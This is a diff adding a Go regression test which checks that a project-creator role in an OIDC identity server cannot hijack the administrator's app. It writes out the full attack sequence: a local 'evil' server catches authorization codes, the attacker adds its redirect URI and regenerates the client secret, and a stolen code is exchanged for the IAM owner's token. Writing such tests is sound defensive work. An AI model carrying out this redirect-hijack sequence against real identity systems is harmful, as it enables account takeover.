@@ -1,0 +1,82 @@
+package securitytest
+
+import (
+	"context"
+	"net/http"
+	"net/http/httptest"
+	"testing"
+
+	"github.com/warden-id/warden/internal/login"
+	"github.com/warden-id/warden/internal/org"
+	"github.com/warden-id/warden/internal/store"
+	"github.com/warden-id/warden/internal/store/testdb"
+	"github.com/warden-id/warden/internal/wardentest"
+	"golang.org/x/oauth2"
+)
+
+// TestProjectCreatorCannotHijackAnotherApp: an ORG_PROJECT_CREATOR (a
+// third-party app's developer) must not take over an app it did not make —
+// here the administrator's own app, which a signed-in IAM owner uses — by
+// adding its own redirect URI and regenerating the client secret, and so
+// receive, when the IAM owner follows one link, a token for Warden's API in
+// the IAM owner's name. In ZITADEL the creator only manages the projects it
+// created (it becomes their PROJECT_OWNER).
+func TestProjectCreatorCannotHijackAnotherApp(t *testing.T) {
+	each(t, func(t *testing.T, open testdb.Opener) {
+		e := start(t, open(t), login.Options{AttemptsPerMinute: -1})
+		f := newFixtures(e)
+		rp := wardentest.NewRP(t, e.Instance, wardentest.RPOptions{}) // the administrator's app
+		apps := f.admin(t, "", "POST", v1+"/projects/"+rp.ProjectID+"/apps/_search", `{}`)
+		appID := apps.Body["result"].([]any)[0].(map[string]any)["id"].(string)
+
+		// The victim: an IAM owner, signed in at that app in its browser.
+		boss := e.human("", "boss")
+		now := store.Now()
+		if err := e.Store.Write(context.Background(), func(ctx context.Context, tx store.Tx) error {
+			return tx.PutMember(ctx, &org.Member{OrgID: org.InstanceScope, UserID: boss, Roles: []string{"IAM_OWNER"}, CreatedAt: now, ChangedAt: now})
+		}); err != nil {
+			t.Fatal(err)
+		}
+		victim := wardentest.NewBrowser(t)
+		rp.SignIn(t, victim, "boss", Password)
+
+		// The attacker: a project creator of the same org, with a server of its own.
+		_, token := f.caller(t, e.Boot.Instance.DefaultOrgID, "ORG_PROJECT_CREATOR")
+		codes := make(chan string, 1)
+		evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+			select {
+			case codes <- r.URL.Query().Get("code"):
+			default:
+			}
+		}))
+		defer evil.Close()
+		app := v1 + "/projects/" + rp.ProjectID + "/apps/" + appID
+		up := e.Do(t, "PUT", app+"/oidc_config", token, `{"redirectUris":["`+rp.Config.RedirectURL+`","`+evil.URL+`/cb"],
+			"responseTypes":["OIDC_RESPONSE_TYPE_CODE"],"grantTypes":["OIDC_GRANT_TYPE_AUTHORIZATION_CODE"],
+			"appType":"OIDC_APP_TYPE_WEB","authMethodType":"OIDC_AUTH_METHOD_TYPE_BASIC","devMode":true}`)
+		regen := e.Do(t, "POST", app+"/oidc_config/_generate_client_secret", token, `{}`)
+		if up.Status == 200 || regen.Status == 200 {
+			t.Errorf("a project creator changed the administrator's app: redirect URIs %d, client secret %d", up.Status, regen.Status)
+		}
+		if up.Status != 200 || regen.Status != 200 {
+			return // the takeover stopped here
+		}
+		cfg := oauth2.Config{ClientID: rp.ClientID, ClientSecret: regen.Str("clientSecret"), Endpoint: rp.Config.Endpoint,
+			RedirectURL: evil.URL + "/cb", Scopes: []string{"openid", "urn:zitadel:iam:org:project:id:zitadel:aud"}}
+		verifier := oauth2.GenerateVerifier()
+		victim.Get(cfg.AuthCodeURL("x", oauth2.S256ChallengeOption(verifier))) // the victim follows a link
+		var code string
+		select {
+		case code = <-codes:
+		default:
+			return
+		}
+		tok, err := cfg.Exchange(context.Background(), code, oauth2.VerifierOption(verifier))
+		if err != nil {
+			return
+		}
+		if r := e.Do(t, "POST", v1+"/orgs", tok.AccessToken, `{"name":"taken-over"}`); r.Status == 200 {
+			t.Errorf("the project creator acted as the IAM owner with a token stolen through the hijacked app (AddOrg: %d)", r.Status)
+		}
+	})
+}
